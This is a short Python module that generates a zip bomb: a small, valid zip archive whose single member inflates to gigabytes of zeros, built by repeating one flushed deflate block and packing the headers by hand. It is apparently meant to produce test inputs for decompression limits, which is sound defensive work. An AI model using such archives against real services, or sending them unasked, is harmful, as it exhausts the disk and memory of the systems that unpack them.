"""A zip whose one part inflates to gigabytes, written in a moment: the deflated megabyte of
zeros is one byte-aligned block (a full flush), repeated, then the closing block."""

from __future__ import annotations

import struct
import zlib

_MEGABYTE = 1 << 20


def zip_bomb(name: str, megabytes: int) -> bytes:
    """A zip holding `name`, `megabytes` of zeros once inflated (under 4 GB: no zip64)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(_MEGABYTE)) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = block * megabytes + compressor.flush()
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(bytes(_MEGABYTE), crc)
    size = megabytes * _MEGABYTE
    encoded = name.encode()
    fields = (20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded))  # deflated, 1980-01-01
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + encoded
    central = (
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, 0) + encoded
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end
